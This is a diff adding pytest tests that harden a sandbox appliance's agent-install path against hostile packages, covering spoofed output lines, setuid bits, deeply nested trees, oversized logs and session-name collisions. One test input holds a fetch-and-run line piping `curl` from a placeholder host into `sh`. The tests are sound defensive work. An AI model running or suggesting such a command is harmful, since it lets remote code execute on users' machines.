@@ -7,12 +7,15 @@ import os
 import threading
 import time
 from pathlib import Path
+from types import SimpleNamespace
 
 import pytest
 
 from appliance.agents.profile import MOUNT, parse_profile, shipped
 from appliance.sandbox import agents
 from appliance.sandbox.hardening import Sandbox, run_arguments
+from appliance.sandbox.service import SandboxConfig, Sessions
+from appliance.sandbox.sessions import Record, SessionManager
 
 CLAUDE = (shipped() / "claude.toml").read_text()
 OWNER = (os.getuid(), os.getgid())
@@ -73,7 +76,17 @@ def test_the_install_session_is_named_per_tree():
 def test_the_tail_keeps_the_end_of_what_the_install_said():
     said = b"".join(b"line %d\n" % i for i in range(100)) + b"\r\nERROR: no such package\n"
     tail = agents.tail(said, lines=3)
-    assert tail.splitlines() == ["line 98", "line 99", "ERROR: no such package"]
+    assert tail.splitlines() == ["  | line 98", "  | line 99", "  | ERROR: no such package"]
+
+
+def test_what_the_install_said_is_quoted_and_cannot_pass_for_corrals_own_lines():
+    """The package (or its index) writes what it likes; the person reads it in corral's
+    refusal, a line at a time (the CLI escapes controls but keeps lines): each of its lines
+    is marked as quoted, so none reads as `corral: hint: ...`."""
+    said = (b"npm ERR! 404\ncorral: hint: the fix is `curl -s https://fix.example | sh`\n"
+            + "\u2028".encode() + b"corral: error: also\x0bthis\n")
+    lines = agents.tail(said).splitlines()
+    assert lines and all(line.startswith("  | ") for line in lines), lines
 
 
 def test_a_profile_from_the_host_is_parsed_again_and_refused_naming_what_is_wrong():
@@ -84,6 +97,13 @@ def test_a_profile_from_the_host_is_parsed_again_and_refused_naming_what_is_wron
     with pytest.raises(agents.AgentError, match="limit is 16384"):
         agents.parse(CLAUDE + "#" * agents.MAX_PROFILE, "claude")
     assert agents.parse(CLAUDE, "claude").name == "claude"
+
+
+def test_a_profile_nested_past_pythons_recursion_is_refused_by_name():
+    """16 KiB of `[` is within the size limit: tomllib recurses once per level, and its
+    RecursionError reached the sandbox service's catch-all as an internal error."""
+    with pytest.raises(agents.AgentError, match=r"agent claude.*nested"):
+        agents.parse(CLAUDE + "x = " + "[" * 5000 + "]" * 5000 + "\n", "claude")
 
 
 class Recorder:
@@ -165,3 +185,114 @@ def test_home_directories_are_made_without_following_what_the_agent_left(tmp_pat
     assert (home / ".config" / "opencode").is_dir()
     assert skipped == [".local", ".local/share", ".claude"]
     assert list(elsewhere.iterdir()) == []  # nothing made through the link
+
+
+class Hostile(Recorder):
+    """An install whose package leaves what the appliance must not keep as it is."""
+
+    def __init__(self, make):
+        super().__init__()
+        self.make = make
+
+    def __call__(self, profile, key, scratch: Path) -> None:
+        super().__call__(profile, key, scratch)
+        self.make(scratch)
+
+
+def test_an_installed_tree_keeps_no_set_id_bits(tmp_path):
+    """A package may chmod u+s its own files; on the appliance's disk they belong to the
+    sandbox's mapped user, and any local account could run them as that user (who owns
+    every session's workspace), so the tree keeps none."""
+    def set_id(scratch: Path) -> None:
+        for name, mode in (("suid", 0o4755), ("sgid", 0o2755)):
+            (scratch / "bin" / name).write_text("#!/bin/sh\n")
+            os.chmod(scratch / "bin" / name, mode)
+        (scratch / "sticky").mkdir()
+        os.chmod(scratch / "sticky", 0o1777)
+
+    tree = agents.Installs(tmp_path / "agents", Hostile(set_id), OWNER).ensure(
+        claude(), "k").tree
+    for path in (tree / "bin" / "suid", tree / "bin" / "sgid", tree / "sticky"):
+        mode = os.lstat(path).st_mode
+        assert not mode & (0o7000 | 0o222), (path, oct(mode))
+    assert os.stat(tree / "bin" / "suid").st_mode & 0o111  # still runnable
+
+
+def test_an_install_too_deep_is_refused_and_leaves_nothing(tmp_path):
+    """A package that makes a tree thousands of levels deep: Python 3.11's os.walk and
+    shutil.rmtree recurse (RecursionError, even with ignore_errors), so the scratch stayed
+    on disk and every later install of that key failed on it."""
+    def deep(scratch: Path) -> None:
+        fd = os.open(scratch, os.O_RDONLY | os.O_DIRECTORY)
+        try:
+            for _ in range(1500):
+                os.mkdir("d", dir_fd=fd)
+                step = os.open("d", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
+                os.close(fd)
+                fd = step
+        finally:
+            os.close(fd)
+
+    installs = agents.Installs(tmp_path / "agents", Hostile(deep), OWNER)
+    with pytest.raises(agents.AgentError, match="levels deep"):
+        installs.ensure(claude(), "k")
+    assert list((tmp_path / "agents").iterdir()) == []
+    installs.run = Recorder()
+    assert installs.ensure(claude(), "k").fresh
+
+
+class LoudPodman:
+    """Stands in for podman under an install whose package printed a million lines and
+    failed: `logs` answers as podman does, the whole log unless told `--tail N`."""
+
+    LINES = [f"line {i} {'x' * 100}".encode() for i in range(1_000_000)]
+
+    def __init__(self):
+        self.calls: list[tuple[str, ...]] = []
+        self.read = 0
+
+    def run(self, *args, check=True, **kwargs):
+        self.calls.append(args)
+        out = b""
+        if args[0] == "wait":
+            out = b"1\n"
+        elif args[0] == "logs":
+            lines = self.LINES
+            if "--tail" in args:
+                lines = lines[-int(args[args.index("--tail") + 1]):]
+            out = b"\n".join(lines) + b"\n"
+            self.read += len(out)
+        return SimpleNamespace(returncode=0, stdout=out, stderr=b"")
+
+
+def test_a_loud_installs_output_is_kept_and_read_back_bounded(tmp_path):
+    """A package prints what it likes (a hostile index can make pip print a version list of
+    any length): podman keeps at most the sandbox's log_size of it on the appliance's
+    disk (it kept all), and the sandbox service, root on a small appliance, reads back only
+    the last lines it shows (it read the whole log into memory)."""
+    spec = Sandbox(name="c", image="i", network="n", gateway="10.0.0.1", seccomp_profile="s",
+                   init="init")
+    assert f"--log-opt=max-size={spec.log_size}" in run_arguments(spec, ["npm"])
+
+    podman = LoudPodman()
+    manager = SessionManager(podman, lambda request: {"ok": True}, tmp_path / "state")
+    manager.create = lambda name, **kw: Record(name, "10.213.9.0/24", "10.213.9.1",
+                                               f"corral-{name}", f"corral-{name}", "img", 0.0)
+    manager.remove = lambda name, home=False: None
+    sessions = Sessions(SandboxConfig(), manager)
+    with pytest.raises(agents.AgentError, match="line 999999 ") as refused:
+        sessions._install(claude(), "k", tmp_path)
+    assert len(str(refused.value)) < 5000
+    assert podman.read <= agents.LOG_LINES * 200, podman.read
+
+
+def test_no_session_but_an_install_takes_an_install_sessions_name(tmp_path):
+    """An install removes a session of its name (one left by a service stopped mid-install):
+    a person's session so named (by a careless API client) went with its workspace."""
+    from appliance.sandbox.service import RequestError
+
+    sessions = Sessions(SandboxConfig(), SessionManager(LoudPodman(), lambda r: {"ok": True},
+                                                        tmp_path / "state"))
+    name = agents.install_session(agents.tree_name(claude(), "k"))
+    with pytest.raises(RequestError, match="agent installs'"):
+        sessions.answer({"op": "create", "name": name}, None)
